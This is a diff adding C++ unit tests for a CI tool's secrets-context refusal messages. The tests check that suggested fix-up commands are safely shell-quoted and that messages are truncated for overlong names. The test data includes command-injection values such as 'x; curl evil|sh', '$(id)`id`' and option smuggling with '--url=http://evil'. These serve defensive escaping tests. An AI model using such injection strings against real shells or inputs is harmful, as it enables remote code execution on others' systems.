@@ -65,6 +65,32 @@ TEST_F(JobSecrets, a_context_that_is_not_there_is_refused_with_what_mends_it) {
     EXPECT_THAT(*secrets({"elsewhere"}), ElementsAre(EnvVar{"A", "mine"}));
 }
 
+TEST_F(JobSecrets, what_mends_a_refusal_may_be_copied_into_a_shell_whatever_the_context_is_called) {
+    const std::pair<const char*, const char*> names[] = {
+        {"deploy-2.x", "create gh/acme deploy-2.x')"},
+        {"two words", "create gh/acme 'two words'')"},
+        {"x; curl evil|sh", "create gh/acme 'x; curl evil|sh'')"},
+        {"$(id)`id`", "create gh/acme '$(id)`id`'')"},
+        {"it's;id", "create gh/acme 'it'\\''s;id'')"},
+        {"a\nid", "create gh/acme 'a\nid'')"},
+        {"--url=http://evil", "create gh/acme -- '--url=http://evil'')"},
+        {"-v", "create gh/acme -- -v')"},
+        {"~root", "create gh/acme '~root'')"},
+        {"", "create gh/acme ''')"},
+    };
+    for (const auto& [name, command] : names) EXPECT_THAT(refusal({name}), HasSubstr(command));
+    context("a b");
+    allow("a b", "p2");
+    EXPECT_THAT(refusal({"a b"}), HasSubstr("gyre context allow gh/acme 'a b' gh/acme/shop')"));
+}
+
+TEST_F(JobSecrets, a_refusal_tells_no_more_of_a_name_than_a_context_may_have) {
+    EXPECT_THAT(refusal({std::string(100, 'x')}), HasSubstr("gyre context create gh/acme " + std::string(100, 'x')));
+    const auto why = refusal({std::string(1 << 20, 'x')});
+    EXPECT_LT(why.size(), 200U);
+    EXPECT_THAT(why, HasSubstr("100 bytes"));
+}
+
 TEST_F(JobSecrets, a_context_of_other_projects_is_refused_until_this_one_is_let_in) {
     context("deploy", "A", "x");
     EXPECT_TRUE(secrets({"deploy"}).ok()) << "nobody restricted it";
